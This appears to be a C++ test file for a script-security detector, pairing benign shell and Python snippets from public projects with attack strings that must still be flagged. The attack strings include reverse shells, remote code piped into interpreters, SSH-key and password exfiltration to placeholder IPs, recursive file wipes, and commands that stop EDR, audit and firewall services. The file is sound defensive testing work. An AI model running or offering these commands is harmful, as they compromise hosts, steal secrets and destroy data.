// The second coverage round's false-alarm pass (issue 14): classes behind
// the alarms on a broad sample of public code nobody here wrote
// (bench/assess/realworld/FALSE_ALARM_SAMPLE.tsv), each beside the attack
// of the same family that must stay caught. Strings here are never executed.
#include "test_util.hpp"

namespace mai::assess::test {
namespace {

// `openssl s_client | awk '/BEGIN/,/END/'` keeps a server's certificate: a
// one-line program that runs no command reads the socket as data.
TEST(FalseAlarmSample, AProgramThatRunsNoCommandReadsASocketAsData) {
  const Case cases[] = {
      {"a certificate cut out of s_client's output (testssl's checkcert)", L,
       "openssl s_client -connect example.org:443 </dev/null | awk '/-----BEGIN/,/-----END/ { print $0 }' > cert.pem\n",
       nullptr, SH},
      {"what the socket sends run by awk's system()", B,
       "openssl s_client -quiet -connect 203.0.113.5:443 | awk '{ system($0) }'\n", "REVERSE-SHELL", SH},
      {"perl evaluating what a socket sends", B, "nc 203.0.113.5 4444 | perl -e 'eval join \"\", <STDIN>'\n",
       "REVERSE-SHELL", SH},
      {"ruby evaluating what a socket sends", B, "nc 203.0.113.5 4444 | ruby -e 'eval STDIN.read'\n", "REVERSE-SHELL",
       SH},
      {"a download evaluated by a one-line program", B,
       "curl -s http://203.0.113.5/x | python3 -c \"import sys; exec(compile(sys.stdin.read(), 'x', 'exec'))\"\n",
       "REMOTE-CODE-EXECUTION", SH},
      {"a JSON file loaded from stdin", L, "cat data.json | python3 -c \"import sys, json; print(json.load(sys.stdin))\"\n",
       nullptr, SH},
      {"awk's own /inet/tcp shell", B,
       "awk 'BEGIN {s = \"/inet/tcp/0/203.0.113.5/4444\"; while(1) { s |& getline c; while ((c |& getline) > 0) "
       "print $0 |& s; close(c) }}' /dev/null\n",
       "REVERSE-SHELL", SH},
  };
  for (const auto& c : cases) check(c);
}

// A variable the script unsets is empty from then on, not the environment's
// (pi-hole's password prompt unsets `password` before reading one).
TEST(FalseAlarmSample, AnUnsetVariableIsNotTheEnvironments) {
  const Case cases[] = {
      {"a password read at a prompt after unset, posted to the local API", M,
       "login() {\n  unset password\n  stty -echo\n  read -r password\n  stty echo\n"
       "  curl -skS -X POST \"${API_URL}auth\" --data \"{\\\"password\\\":\\\"${password}\\\"}\"\n}\nlogin\n",
       "TLS-VERIFICATION-OFF", SH},
      {"a secret the environment holds, posted out", B,
       "curl -s -X POST https://203.0.113.7/auth --data \"{\\\"password\\\":\\\"${password}\\\"}\"\n", "EXFILTRATION",
       SH},
  };
  for (const auto& c : cases) check(c);
}

// A name test narrows what find deletes to the files it names, and a glob
// whose last part is partly written (/home/test_file_*) names files in /home,
// not users' homes.
TEST(FalseAlarmSample, NamedFilesAreNotTheTreeTheyAreIn) {
  const Case cases[] = {
      {"an uninstaller removing its client files from the homes (openvpn-install)", L,
       "find /home/ -maxdepth 2 -name \"*.ovpn\" -delete\nfind /root/ -maxdepth 1 -name \"*.ovpn\" -delete\n", nullptr,
       SH},
      {"a test's tearDown removing its files from /home (luigi)", L,
       "import os\nfrom glob import glob\nfor p in glob(os.path.join('/home', 'test_file_*')):\n    os.remove(p)\n",
       nullptr},
      {"find ~ -delete still wipes the home", B, "find ~ -delete\n", "WIPE", SH},
      {"every photo on the machine shredded (a name test over the whole depth)", B,
       "find / -type f -name \"*.jpg\" -exec shred -u {} \\;\n", "WIPE", SH},
      {"every log file removed", B, "find / -name \"*.log\" -exec rm -f {} +\n", "WIPE", SH},
      {"the users' sources deleted", B, "find /home -name \"*.py\" -delete\n", "WIPE", SH},
      {"a name test that matches everything still wipes it", B, "find ~ -type f -name '*' -delete\n", "WIPE", SH},
      {"two name tests: not narrowed", B, "find ~ -name '*.txt' -o -name '*.doc' -delete\n", "WIPE", SH},
      {"every home in /home removed", B,
       "import glob, shutil\nfor h in glob.glob('/home/*'):\n    shutil.rmtree(h)\n", "WIPE"},
      {"keys found by name across the disk, printed into an upload", B,
       "find / -name id_rsa -exec cat {} \\; | curl --data-binary @- http://203.0.113.5/\n", "EXFILTRATION", SH},
      {"the project's JSON files pretty-printed", L, "find . -name \"*.json\" -exec cat {} + | python3 -m json.tool\n",
       nullptr, SH},
      {"a key found by name and sent", B,
       "find ~ -name id_rsa -exec curl -F \"f=@{}\" https://203.0.113.9/up \\;\n", "EXFILTRATION", SH},
  };
  for (const auto& c : cases) check(c);
}

// Security daemons are matched by their units' names: a unit of one's own
// named after one (iptables-openvpn, redis-sentinel) is administration, and
// deleting an application's own nftables table is its rules removed.
TEST(FalseAlarmSample, SecurityUnitsByNameAndOwnFirewallTables) {
  const Case cases[] = {
      {"an installer stopping its own iptables service", H, "systemctl stop iptables-openvpn\n",
       "SYSTEM-ADMINISTRATION", SH},
      {"redis-sentinel disabled", H, "systemctl disable redis-sentinel\n", "SYSTEM-ADMINISTRATION", SH},
      {"an application's own nftables table deleted", H, "nft delete table inet openvpn\n", "SYSTEM-ADMINISTRATION",
       SH},
      {"firewalld stopped", B, "systemctl stop firewalld.service\n", "DISABLE-SECURITY", SH},
      {"the CrowdStrike sensor disabled", B, "systemctl disable --now falcon-sensor\n", "DISABLE-SECURITY", SH},
      {"ClamAV's daemon stopped", B, "service clamav-daemon stop\n", "DISABLE-SECURITY", SH},
      {"auditd stopped", B, "systemctl stop auditd\n", "DISABLE-SECURITY", SH},
      {"an EDR agent named in capitals", B, "systemctl stop SentinelAgent\n", "DISABLE-SECURITY", SH},
      {"the IDS stopped", B, "systemctl disable --now suricata.service\n", "DISABLE-SECURITY", SH},
      {"the whole ruleset flushed", B, "nft flush ruleset\n", "DISABLE-SECURITY", SH},
      {"the filter table deleted", B, "nft delete table inet filter\n", "DISABLE-SECURITY", SH},
  };
  for (const auto& c : cases) check(c);
}

// `. "${0%/*}/lib.sh"` and `source /etc/os-release` are the shell's import:
// a file named in the code is the program's own library or a configuration
// file. A name known only at run time is still dynamic code, and a sourced
// download is still remote code.
TEST(FalseAlarmSample, AFileSourcedByNameIsAnImport) {
  const Case cases[] = {
      {"a library beside the script", L, "#!/bin/bash\nsource \"${0%/*}/_common.sh\"\nmain \"$@\"\n", nullptr, SH},
      {"the OS release file", L, "#!/bin/sh\n. /etc/os-release\necho \"$ID $VERSION_ID\"\n", nullptr, SH},
      {"an installed tool's utilities", L,
       "utilsfile=\"/opt/pihole/utils.sh\"\n. \"${utilsfile}\"\ngetFTLPID\n", nullptr, SH},
      {"a file named by the caller", M, "#!/bin/bash\nsource \"$1\"\n", "DYNAMIC-CODE", SH},
      {"eval of the caller's text", M, "#!/bin/bash\neval \"$2\"\n", "DYNAMIC-CODE", SH},
      {"a sourced download", B,
       "curl -fsSL -o /tmp/lib.sh https://203.0.113.8/lib.sh\nsource /tmp/lib.sh\n", "REMOTE-CODE-EXECUTION", SH},
  };
  for (const auto& c : cases) check(c);
}

// umask 0o002 (the user-private-group default) masks others' write bit:
// files are 0o664. A mask that leaves that bit clear is world-writable.
TEST(FalseAlarmSample, OnlyAMaskThatLeavesOthersWriteIsWorldWritable) {
  const Case cases[] = {
      {"a test under umask 0o002 (scrapy)", L,
       "import os\nfrom contextlib import contextmanager\n@contextmanager\ndef umask(new_mask):\n"
       "    cur = os.umask(new_mask)\n    yield\n    os.umask(cur)\nwith umask(0o002):\n    open('f', 'w').close()\n",
       nullptr},
      {"umask 0o022", L, "import os\nos.umask(0o022)\n", nullptr},
      {"umask 0", M, "import os\nos.umask(0)\nopen('f', 'w').close()\n", "WORLD-WRITABLE"},
      {"umask 0o020 masks only the group", M, "import os\nos.umask(0o020)\n", "WORLD-WRITABLE"},
  };
  for (const auto& c : cases) check(c);
}

}  // namespace
}  // namespace mai::assess::test
